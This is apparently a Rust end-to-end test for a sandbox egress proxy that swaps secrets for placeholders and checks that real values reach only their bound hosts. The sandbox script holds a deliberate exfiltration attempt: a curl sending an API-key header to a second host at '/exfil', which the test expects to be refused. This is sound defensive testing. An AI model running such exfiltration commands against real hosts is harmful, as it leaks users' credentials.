//! Issue 17 end to end, on dockerd and on Podman: secrets bound to egress
//! hosts reach the sandbox as placeholders; the Debian image's curl,
//! trusting the run's CA through the exported variables, reaches a
//! host-side TLS upstream (signed by a test CA the proxy trusts through
//! `ITERION_EGRESS_UPSTREAM_CA`) which receives the real values; a second
//! allowed, inspected host receiving the placeholder is refused and never
//! sees it; a host no binding names is tunnelled blind (curl verifies the
//! upstream's own certificate against the test CA alone); the env, the
//! files, `docker inspect`, the events and the logs hold only the
//! placeholder.
//!
//! The upstream listens on the host (0.0.0.0) and is reached by three
//! names of the host: its primary address (bound to both secrets), the
//! docker0 bridge address (bound to another secret, so inspected) and
//! `localhost` (unbound: blind), each allowed by an IP rule as in
//! `egress_e2e`.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use base64::Engine as _;
use serde_json::Value;
use tokio_rustls::rustls;

use crate::egress_e2e::{PRELUDE, docker0_ip, field, host_ip, inline, probe_workflow};
use crate::support::{Engine, Sandbox, of_type, parse_run_output};

/// A TLS upstream recording every request head.
struct TlsUpstream {
    port: u16,
    heads: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl TlsUpstream {
    fn start(config: Arc<rustls::ServerConfig>) -> Self {
        let listener = TcpListener::bind("0.0.0.0:0").expect("bind upstream");
        let port = listener.local_addr().expect("addr").port();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let thread = {
            let (heads, stop) = (heads.clone(), stop.clone());
            std::thread::spawn(move || {
                for conn in listener.incoming() {
                    if stop.load(Ordering::SeqCst) {
                        break;
                    }
                    let Ok(s) = conn else { continue };
                    let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
                    let Ok(c) = rustls::ServerConnection::new(config.clone()) else {
                        continue;
                    };
                    let mut tls = rustls::StreamOwned::new(c, s);
                    let mut buf = Vec::new();
                    let mut chunk = [0u8; 1024];
                    while !buf.windows(4).any(|w| w == b"\r\n\r\n") && buf.len() < 16 << 10 {
                        match tls.read(&mut chunk) {
                            Ok(0) | Err(_) => break,
                            Ok(n) => buf.extend_from_slice(&chunk[..n]),
                        }
                    }
                    if buf.is_empty() {
                        continue;
                    }
                    let _ = write!(
                        tls,
                        "HTTP/1.1 200 OK\r\nContent-Length: 11\r\nConnection: close\r\n\r\nupstream-ok"
                    );
                    let _ = tls.flush();
                    heads
                        .lock()
                        .expect("heads")
                        .push(String::from_utf8_lossy(&buf).into_owned());
                }
            })
        };
        Self {
            port,
            heads,
            stop,
            thread: Some(thread),
        }
    }

    fn heads(&self) -> Vec<String> {
        self.heads.lock().expect("heads").clone()
    }
}

impl Drop for TlsUpstream {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        let _ = TcpStream::connect_timeout(
            &SocketAddr::from(([127, 0, 0, 1], self.port)),
            Duration::from_secs(2),
        );
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A test CA and a server config for `names` signed by it.
pub(crate) fn test_pki(names: &[String]) -> (Arc<rustls::ServerConfig>, String) {
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    // Distinct names: OpenSSL (curl) takes a leaf whose subject equals its
    // issuer for a self-signed certificate.
    ca_params.distinguished_name = rcgen::DistinguishedName::new();
    ca_params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "iterion e2e test CA");
    let ca_cert = ca_params.self_signed(&ca_key).unwrap();
    let issuer = rcgen::Issuer::new(ca_params, ca_key);
    let key = rcgen::KeyPair::generate().unwrap();
    let mut leaf_params = rcgen::CertificateParams::new(names.to_vec()).unwrap();
    leaf_params.distinguished_name = rcgen::DistinguishedName::new();
    leaf_params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "iterion e2e upstream");
    let leaf = leaf_params.signed_by(&key, &issuer).unwrap();
    let config = rustls::ServerConfig::builder()
        .with_no_client_auth()
        .with_single_cert(
            vec![leaf.der().clone()],
            rustls::pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into()),
        )
        .unwrap();
    (Arc::new(config), ca_cert.pem())
}

/// None of `values` in what the sandbox or the record can show: the live
/// container's `docker inspect`, the events, the run's stdout and stderr
/// (`out`) and its logs.
pub(crate) fn assert_values_nowhere(
    engine: Engine,
    sb: &Sandbox,
    run_id: &str,
    inspect: &str,
    events: &[Value],
    out: (&str, &str),
    values: &[&str],
) {
    let logs = sb.iterion(&["logs", run_id]);
    let events_text = serde_json::to_string(events).unwrap();
    for (what, text) in [
        ("docker inspect", inspect),
        ("events", events_text.as_str()),
        ("run stdout", out.0),
        ("run stderr", out.1),
        ("logs", &String::from_utf8_lossy(&logs.stdout)),
    ] {
        for v in values {
            assert!(!text.contains(v), "{engine:?}: a value in {what}");
        }
    }
}

/// `docker inspect` of the run's live container (found by its workspace bind).
pub(crate) fn inspect_live(engine: Engine, marker: &str, limit: Duration) -> Option<String> {
    let start = Instant::now();
    while start.elapsed() < limit {
        let ps = Command::new("docker")
            .args([
                "-H",
                &engine.host(),
                "ps",
                "-q",
                "--filter",
                "name=iterion-",
            ])
            .output()
            .expect("docker ps");
        for id in String::from_utf8_lossy(&ps.stdout).split_whitespace() {
            let out = Command::new("docker")
                .args(["-H", &engine.host(), "inspect", id])
                .output()
                .expect("docker inspect");
            let text = String::from_utf8_lossy(&out.stdout).into_owned();
            if text.contains(marker) {
                return Some(text);
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    None
}

fn bound_secrets(engine: Engine) {
    let host = host_ip();
    let docker0: IpAddr = docker0_ip().parse().unwrap();
    let names = vec![
        host.to_string(),
        docker0.to_string(),
        "localhost".to_owned(),
    ];
    let (config, ca_pem) = test_pki(&names);
    let upstream = TlsUpstream::start(config);
    let port = upstream.port;
    let nonce = std::process::id();
    let value_a = format!("sk-ant-api03-e2eREALvalueA{nonce}xxxxxxxxxxxxxxxxxxxxxxxxxxxx");
    let value_c = format!("file-REAL-value-C-{nonce}");
    let value_d = format!("d-REAL-{nonce}");
    let sb = Sandbox::new(engine);
    let ca_path = sb.dir.path().join("upstream-ca.pem");
    std::fs::write(&ca_path, &ca_pem).unwrap();
    let sb = sb
        .with_env("E2E_VALUE_A", &value_a)
        .with_env("E2E_VALUE_C", &value_c)
        .with_env("E2E_VALUE_D", &value_d)
        .with_env("ITERION_EGRESS_UPSTREAM_CA", &ca_path.to_string_lossy());
    let test_ca = base64::engine::general_purpose::STANDARD.encode(&ca_pem);
    let script = format!(
        r#"{PRELUDE}
rec env_a "$API_KEY"
rec file_c "$(cat /run/iterion/secrets/file_c)"
rec ssl_cert_file "${{SSL_CERT_FILE:-}}"
rec bundle_roots "$(grep -c 'BEGIN CERTIFICATE' "$SSL_CERT_FILE")"
rec bound "$(curl -sS -m 20 -H "x-api-key: $API_KEY" -H "x-file: $(cat /run/iterion/secrets/file_c)" "https://{host}:{port}/bound?k=$API_KEY" 2>&1; echo " rc=$?")"
rec exfil "$(curl -sS -i -m 20 -H "x-api-key: $API_KEY" https://{docker0}:{port}/exfil 2>&1 | tr -d '\r')"
echo {test_ca} | base64 -d > /tmp/test-ca.pem
rec blind "$(curl -sS -m 20 --noproxy '' --cacert /tmp/test-ca.pem -H "x-api-key: $API_KEY" https://localhost:{port}/blind 2>&1; echo " rc=$?")"
rec blind_with_run_ca "$(curl -sS -m 20 --noproxy '' https://localhost:{port}/blind2 2>&1; echo " rc=$?")"
sleep 2
emit
"#
    );
    let secrets = format!(
        "secrets:\n  API_KEY:\n    value: \"${{E2E_VALUE_A}}\"\n    egress: [\"{host}\"]\n  \
         file_c:\n    as: file\n    value: \"${{E2E_VALUE_C}}\"\n    egress: [\"{host}\"]\n  \
         OTHER:\n    value: \"${{E2E_VALUE_D}}\"\n    egress: [\"{docker0}\"]\n\n"
    );
    let block = format!(
        "    network:\n      mode: allowlist\n      rules: [\"{host}\", \"{docker0}\", \"localhost\", \"127.0.0.1\"]\n"
    );
    let text = format!(
        "{secrets}{}",
        probe_workflow("secret_egress", &inline(&block), &script)
    );
    let file = sb.write("secret_egress.iter", &text);
    let f = file.to_string_lossy().into_owned();
    let child = sb
        .command(&["run", &f, "--json"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn iterion");
    let inspect = inspect_live(
        engine,
        &sb.workspace().to_string_lossy(),
        Duration::from_secs(60),
    );
    let out = child.wait_with_output().expect("wait iterion");
    let r = parse_run_output(&out);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(r.code, Some(0), "{engine:?}: {stderr}");
    let run_id = r.run_id();
    let events = sb.events(&run_id);
    let probe = crate::egress_e2e::node_output(&events);
    eprintln!("{engine:?} probe: {probe:#}");

    // The sandbox holds placeholders, shaped like the value.
    let ph_a = field(&probe, "env_a").to_owned();
    assert_ne!(ph_a, value_a);
    assert!(
        ph_a.starts_with("sk-ant-api03-") && ph_a.len() == value_a.len(),
        "{ph_a}"
    );
    let ph_c = field(&probe, "file_c").to_owned();
    assert_ne!(ph_c, value_c);
    assert_eq!(
        field(&probe, "ssl_cert_file"),
        "/etc/iterion-egress/ca-bundle.pem"
    );
    let roots: usize = field(&probe, "bundle_roots").parse().unwrap();
    assert!(roots > 1, "the bundle keeps the image's roots: {roots}");

    // The bound host got the values, never the placeholders.
    assert_eq!(field(&probe, "bound"), "upstream-ok rc=0", "{engine:?}");
    let heads = upstream.heads();
    let bound: Vec<&String> = heads.iter().filter(|h| h.contains("/bound")).collect();
    assert_eq!(bound.len(), 1, "{heads:#?}");
    assert!(
        bound[0].contains(&format!("x-api-key: {value_a}")),
        "{}",
        bound[0]
    );
    assert!(
        bound[0].contains(&format!("x-file: {value_c}")),
        "{}",
        bound[0]
    );
    assert!(
        bound[0].contains(&format!("/bound?k={value_a}")),
        "{}",
        bound[0]
    );
    assert!(!bound[0].contains(&ph_a));

    // The other inspected host: refused, and it never saw the request.
    let exfil = field(&probe, "exfil");
    // curl negotiates HTTP/2 (ALPN) with the inspecting proxy.
    assert!(exfil.contains("HTTP/2 403"), "{engine:?}: {exfil}");
    assert!(
        exfil.contains("x-iterion-egress: blocked-secret-exfiltration; secret=API_KEY"),
        "{exfil}"
    );
    assert!(!heads.iter().any(|h| h.contains("/exfil")), "{heads:#?}");
    let blocked: Vec<&Value> = of_type(&events, "network_blocked")
        .into_iter()
        .filter(|e| e["data"]["reason"] == "secret_exfiltration")
        .collect();
    assert_eq!(blocked.len(), 1, "{events:#?}");
    assert_eq!(blocked[0]["data"]["secret"], "API_KEY");
    assert_eq!(blocked[0]["data"]["host"], docker0.to_string());
    assert_eq!(blocked[0]["data"]["node_id"], "probe");

    // The unbound host: a blind tunnel — the upstream's own certificate
    // (verified against the test CA alone), the placeholder untouched.
    assert_eq!(field(&probe, "blind"), "upstream-ok rc=0", "{engine:?}");
    let blind: Vec<&String> = heads.iter().filter(|h| h.contains("/blind ")).collect();
    assert_eq!(blind.len(), 1, "{heads:#?}");
    assert!(blind[0].contains(&format!("x-api-key: {ph_a}")));
    assert!(
        field(&probe, "blind_with_run_ca").contains("rc=60"),
        "the run's CA does not vouch for a tunnelled host: {}",
        field(&probe, "blind_with_run_ca")
    );

    // No value anywhere but the bound upstream.
    let inspect = inspect.unwrap_or_else(|| panic!("{engine:?}: container never seen"));
    assert_values_nowhere(
        engine,
        &sb,
        &run_id,
        &inspect,
        &events,
        (&stdout, &stderr),
        &[&value_a, &value_c, &value_d],
    );
    assert!(!inspect.contains("BEGIN PRIVATE KEY"));
}

#[test]
fn bound_secrets_reach_only_their_hosts_on_dockerd() {
    bound_secrets(Engine::Docker);
}

#[test]
fn bound_secrets_reach_only_their_hosts_on_podman() {
    bound_secrets(Engine::Podman);
}

/// `iterion validate` through the egress policy's own hook: a binding
/// outside the allowlist is C325, one that can never match is C324, and
/// an allowed one (exact or by wildcard over an allowed host) is clean.
#[test]
fn validate_reports_bindings_the_policy_never_lets_through() {
    let sb = Sandbox::new(Engine::Docker);
    let text = "secrets:\n  KEY:\n    egress: [\"api.example.com\", \"*.example.com\", \"evil.test\", \"!x.test\"]\n\n\
                tool t:\n  command: `true`\n\nworkflow w:\n  entry: t\n  sandbox:\n    image: \"x\"\n    \
                network:\n      mode: allowlist\n      rules: [\"api.example.com\"]\n  t -> done\n";
    let file = sb.write("bound.iter", text);
    let out = sb.iterion(&["validate", file.to_str().unwrap(), "--json"]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let text = doc.to_string();
    let diags: Vec<Value> = doc
        .pointer("/files/0/diagnostics")
        .or_else(|| doc.get("diagnostics"))
        .and_then(Value::as_array)
        .cloned()
        .unwrap_or_else(|| panic!("no diagnostics: {text}"));
    let of = |code: &str| -> Vec<&Value> { diags.iter().filter(|d| d["code"] == code).collect() };
    let c325 = of("C325");
    assert_eq!(c325.len(), 1, "{text}");
    assert!(
        c325[0]["message"].as_str().unwrap().contains("evil.test"),
        "{text}"
    );
    assert_eq!(c325[0]["line"], 3);
    assert_eq!(of("C324").len(), 1, "{text}");
    assert_eq!(diags.len(), 2, "the allowed bindings are clean: {text}");
}

/// Where a binding cannot be served (here: no `network:` block, so no
/// proxy), an inline run is refused before any container, naming the
/// secret, and an auto run gets the plain value with
/// `sandbox_secret_egress_unavailable` — never a silent downgrade.
#[test]
fn an_unservable_binding_refuses_inline_and_is_said_in_auto() {
    for engine in [Engine::Docker, Engine::Podman] {
        let sb = Sandbox::new(engine).with_env("E2E_BOUND", "bound-plain-value-1234");
        let workflow = |mode: &str| {
            format!(
                "secrets:\n  KEY:\n    value: \"${{E2E_BOUND}}\"\n    egress: [\"api.example.com\"]\n\n\
                 tool t:\n  command: `test \"$KEY\" = bound-plain-value-1234 && echo '{{\"ok\":true}}'`\n\n\
                 workflow w:\n  entry: t\n  sandbox:\n    mode: {mode}\n    image: \"{}\"\n    host_state: none\n  t -> done\n",
                crate::support::busybox()
            )
        };
        let file = sb.write("inline.iter", &workflow("inline"));
        let r = sb.run(&file, &[]);
        assert_eq!(
            r.failure_code(),
            Some("SANDBOX_SPEC_REFUSED"),
            "{engine:?}: {}",
            r.stderr
        );
        let run_id = r.run_id();
        assert!(!crate::support::container_exists(engine, &run_id));
        let text = serde_json::to_string(&sb.events(&run_id)).unwrap() + &r.stderr;
        assert!(
            text.contains("KEY") && text.contains("bound to egress hosts"),
            "{text}"
        );
        assert!(!text.contains("bound-plain-value-1234"));

        let file = sb.write("auto.iter", &workflow("auto"));
        let r = sb.run(&file, &[]);
        assert_eq!(
            (r.code, r.status()),
            (Some(0), "finished"),
            "{engine:?}: {}",
            r.stderr
        );
        let events = sb.events(&r.run_id());
        let said = of_type(&events, "sandbox_secret_egress_unavailable");
        assert_eq!(said.len(), 1, "{events:#?}");
        assert_eq!(said[0]["data"]["secrets"], serde_json::json!(["KEY"]));
        assert!(
            !serde_json::to_string(&events)
                .unwrap()
                .contains("bound-plain-value-1234")
        );
    }
}
